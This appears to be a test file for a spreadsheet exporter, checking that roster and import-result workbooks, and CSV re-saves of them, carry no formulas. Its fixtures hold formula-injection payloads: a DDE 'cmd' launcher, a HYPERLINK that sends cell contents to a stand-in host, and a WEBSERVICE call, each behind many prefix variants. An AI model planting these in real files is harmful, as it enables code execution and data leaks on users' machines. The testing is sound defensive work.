import { read, utils, write, type CellObject, type WorkBook } from '@e965/xlsx';
import { emptySnapshot } from '../../../../../../../tests/int/import-fixtures';
import { ORGANISATION_KINDS } from './domain/fields';
import type { Existing, PlannedSheet, Snapshot } from './domain/types';
import { resultWorkbook, rosterWorkbook } from './export-workbook';


/** What makes a cell a formula in one program or another, narrow and full-width, bare and behind what an archive cannot hold. */
const MARKS = ['=', '+', '-', '@', '\t', '\r', '\0', '\0=', '＝', '＋', '－', '＠', '\ud800=', '\u0001@', '"=', ';=', '|'];
const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/"&A1)', '1+1', 'WEBSERVICE("http://x.example/")'];
const STARTS_A_FORMULA = /^[=+\-@\t\r\0＝＋－＠]/;

const cellsOf = (book: WorkBook): CellObject[] => book.SheetNames.flatMap((name) => Object.entries(book.Sheets[name] ?? {}).filter(([key]) => !key.startsWith('!')).map(([, cell]) => cell as CellObject));
const withMark = (mark: string, index: number): string => `${mark}${BODIES[index % BODIES.length] as string}`;

/** Every column of every sheet that is exported, and every mark in each. */
const poisoned = (): Snapshot => {
  const rows = ORGANISATION_KINDS.map((spec) => [spec.kind, MARKS.map((mark, id): Existing => ({ id, values: Object.fromEntries(spec.fields.map(({ field }, column) => [field, withMark(mark, id + column)])) }))]);
  return { ...emptySnapshot(), ...(Object.fromEntries(rows) as Partial<Snapshot>) };
};
const columns = ORGANISATION_KINDS.reduce((sum, { fields }) => sum + fields.length, 0);

const check = (bytes: Buffer, expected: number): void => {
  const cells = cellsOf(read(bytes, { cellFormula: true }));
  expect(cells.length).toBeGreaterThanOrEqual(expected);
  expect(cells.filter((cell) => cell.f !== undefined || cell.F !== undefined || cell.l !== undefined)).toEqual([]);
  expect(cells.filter((cell) => cell.t !== 's')).toEqual([]);
  expect(cells.map((cell) => String(cell.v)).filter((text) => STARTS_A_FORMULA.test(text))).toEqual([]);
};

describe.each(['zhHans', 'en'] as const)('the roster in %s', (language) => {
  test('has no formula in any cell, whatever the texts begin with', async () => {
    expect(columns * MARKS.length).toBeGreaterThanOrEqual(300);
    check(await rosterWorkbook(poisoned(), language), columns * MARKS.length);
  });

  test('nor after somebody saves it as CSV and opens that', async () => {
    const book = read(await rosterWorkbook(poisoned(), language));
    for (const name of book.SheetNames) {
      const csv = utils.sheet_to_csv(book.Sheets[name] as never);
      const again = read(csv, { type: 'string', raw: true });
      expect(cellsOf(again).filter((cell) => cell.f !== undefined || STARTS_A_FORMULA.test(String(cell.v)))).toEqual([]);
    }
    expect(write(book, { type: 'buffer', bookType: 'csv' })).toBeInstanceOf(Buffer);
  });

  test('the result of an import repeats no formula either: headers, cells, file name, person', async () => {
    const marked = MARKS.map(withMark);
    const sheet = { name: 'S', kind: 'employees', counts: { new: 0, changed: 0, unchanged: 0, wrong: MARKS.length }, columns: marked.map((header) => ({ header, field: 'name' })), rows: marked.map((text, row) => ({ row, verdict: 'wrong', problems: [], changes: [], input: marked.map(() => text) })) } as unknown as PlannedSheet;
    for (const text of marked) check(await resultWorkbook({ id: 'x', fileName: text, at: '2023-01-31T00:00:00.000Z', by: text, counts: { new: 0, changed: 0, unchanged: 0, wrong: 1 }, opened: 0, closed: 0 }, [sheet], language), MARKS.length ** 2);
  });
});
